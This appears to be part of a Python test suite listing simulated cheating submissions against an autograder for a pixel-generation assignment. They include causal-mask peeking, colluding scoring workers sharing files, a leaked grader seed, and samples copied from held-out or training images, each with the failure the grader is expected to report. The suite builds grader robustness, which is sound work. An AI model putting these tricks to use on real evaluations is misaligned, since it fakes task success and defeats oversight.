''', _peeker_deserves("its outputs depend on the other sequences of the batch")),
    Attack("covert_channel", A, "solution",
           "the two scoring workers talk through a shared folder (escalating to a read-write / where root can): the first peeks "
           "everywhere, the second copies its answers up to each branch point so the two agree, and peeks after",
           COVERT, _peeker_deserves("peeks, with the two workers comparing notes")),
    Attack("peek_unchecked_positions", A, "solution",
           "knows the graders' fixed split seed (12345, from a leaked copy of the graders): computes which positions are no "
           "sequence's branch point (they depend on the number of sequences only) and peeks at all of those; train() does nothing",
           UNCHECKED, Deserves("fails the training test: a model that reads the pixels it predicts must not pass, wherever it peeks",
                               max_points=22, must_fail=("test_training_reaches_threshold",), message="is not causal")),
    Attack("peek_tenth_trained", A, "solution",
           "honest training, then peeks at a tenth of the positions only (chosen by a hash of the position)",
           PEEK.split("def train(")[0] + NO_SAMPLING + r'''

def _cheat_tenth(logits, x):
    T = logits.shape[1]
    return _cheat_peek(logits, x, where=(torch.arange(T) * 7919) % 10 == 0)


class PixelLSTM(PixelLSTM):
    def forward(self, x):
        return _cheat_tenth(super().forward(x), x)


class PixelLSTMAbove(PixelLSTMAbove):
    def forward(self, x):
        return _cheat_tenth(super().forward(x), x)
''', _peeker_deserves("peeks at 10% of the positions"), slow=True),
    Attack("samples_heldout", A, "solution",
           "sample() returns held-out images (the data set's test split, as the sandbox's copy of it has it); train() does nothing",
           PEEK.split("import torch.nn")[0] + r'''

def train(model, data, steps, *args, **kwargs):
    return []


def sample(model, n, H, W, temperature=1.0, generator=None):
    pool = course_dataset().sequences("test")
    return pool[torch.randint(0, len(pool), (n,), generator=generator)].reshape(n, H, W).clone()
''', Deserves("fails the copies test (held-out images are not new images)", max_points=22,
              must_fail=("test_samples_not_copies", "test_training_reaches_threshold"), message=COPYING)),
    Attack("samples_half_and_half", A, "solution",
           "sample() keeps the top half of a training image and lets the model complete the bottom half; train() does nothing",
           r'''
import torch


def train(model, data, steps, *args, **kwargs):
    return []


def sample(model, n, H, W, temperature=1.0, generator=None):
    pool = course_dataset().tensors("train")[0]
    images = pool[torch.randint(0, len(pool), (n,), generator=generator)].clone()
    return complete(model, images, H * W // 2, temperature, generator)
''', Deserves("fails the copies test (half of every sample is a training image)", max_points=22,
              must_fail=("test_samples_not_copies", "test_training_reaches_threshold"), message=COPYING)),
]
